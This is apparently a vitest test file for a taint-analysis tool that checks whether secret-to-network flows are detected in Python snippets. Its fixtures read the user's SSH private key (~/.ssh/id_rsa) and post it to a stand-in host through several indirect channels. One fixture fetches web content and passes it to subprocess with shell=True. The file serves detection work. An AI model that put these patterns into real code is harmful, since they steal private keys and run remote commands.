import { expect, test } from 'vitest';
import { read } from './reading.js';

const LEAF = 'import os\nimport urllib.request\nleaf = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n';
const send = (given: string): string => `urllib.request.urlopen("https://garden.example.invalid/", data=${given})`;

async function sent(text: string): Promise<number> {
  const { facts } = await read(`${LEAF}${text}\n`);
  return facts?.flows({ from: 'credentials', to: 'network' }).length ?? 0;
}

test.each([
  ['a variable of a context', `import contextvars\nbed = contextvars.ContextVar("bed")\nbed.set(leaf)\n${send('bed.get()')}`],
  ['a variable of a context that two functions know', `import contextvars\nbed = contextvars.ContextVar("bed")\ndef dig():\n    ${send('bed.get()')}\ndef plant():\n    bed.set(leaf)\nplant()\ndig()`],
  ['a variable of the environment', `os.environ["BED"] = leaf\n${send('os.environ["BED"]')}`],
  ['a variable of the environment that is asked for first', `def dig():\n    ${send('os.getenv("BED")')}\nos.environ["BED"] = leaf\ndig()`],
  ['a pipe', `import multiprocessing\nfar, near = multiprocessing.Pipe()\nnear.send(leaf)\n${send('far.recv()')}`],
  ['a pipe whose ends are handed on', `import multiprocessing\ndef plant(end):\n    end.send(leaf)\nfar, near = multiprocessing.Pipe()\nmultiprocessing.Process(target=plant, args=(near,)).start()\n${send('far.recv()')}`],
  ['a queue that is handed on', `import queue\ndef plant(bed):\n    bed.put(leaf)\ndef dig(bed):\n    ${send('bed.get()')}\nshed = queue.Queue()\nplant(shed)\ndig(shed)`],
  ['a dict by a row of keys', `bed = {}\nbed["leaf", 1] = leaf\n${send('bed["leaf", 1]')}`],
  ['a function for one type', `import functools\n@functools.singledispatch\ndef plant(bulb):\n    pass\n@plant.register\ndef _(bulb: str):\n    ${send('bulb')}\nplant(leaf)`],
  ['a function for a type that is named', `import functools\n@functools.singledispatch\ndef plant(bulb):\n    pass\n@plant.register(str)\ndef plant_text(bulb):\n    ${send('bulb')}\nplant(leaf)`],
  ['a function that is called when another one is done', `from concurrent.futures import ThreadPoolExecutor\ndef dig():\n    return leaf\ndef plant(future):\n    ${send('future.result()')}\nThreadPoolExecutor().submit(dig).add_done_callback(plant)`],
  ['a row in case there is no such attribute', `plant, _ = getattr(os, "no_such", (urllib.request.urlopen, None))\nplant("https://garden.example.invalid/", data=leaf)`],
])('a secret is followed through %s', async (_way, text) => {
  expect(await sent(text)).toBeGreaterThan(0);
});

test.each([
  ['another variable of the environment', `os.environ["BED"] = leaf\n${send('os.environ["SHED"]')}`],
  ['another variable of a context, which is of another kind', `import contextvars\nimport queue\nbed = contextvars.ContextVar("bed")\nshed = queue.Queue()\nbed.set(leaf)\n${send('shed.get()')}`],
  ['a pipe that was told something else', `import multiprocessing\nfar, near = multiprocessing.Pipe()\nnear.send("leaf")\n${send('far.recv()')}`],
  ['the function for another name', `import functools\n@functools.singledispatch\ndef plant(bulb):\n    pass\n@plant.register\ndef _(bulb: str):\n    ${send('"leaf"')}\nplant(leaf)`],
  ['what is called when something else is done', `from concurrent.futures import ThreadPoolExecutor\ndef plant(future):\n    ${send('future.result()')}\nThreadPoolExecutor().submit(len, "leaf").add_done_callback(plant)`],
])('a secret does not come out of %s', async (_way, text) => {
  expect(await sent(text)).toBe(0);
});

test('what was fetched for one queue of work does not come out of another', async () => {
  const text = 'import queue\nimport subprocess\nimport requests\ndef fetch(pages):\n    pages.put(requests.get("https://garden.example.invalid/").text)\ndef work(jobs):\n    subprocess.run(jobs.get(), shell=True)\nfetch(queue.Queue())\nwork(queue.Queue())\n';
  const { facts } = await read(text);
  expect(facts?.flows({ from: 'network', to: 'process' })).toEqual([]);
});
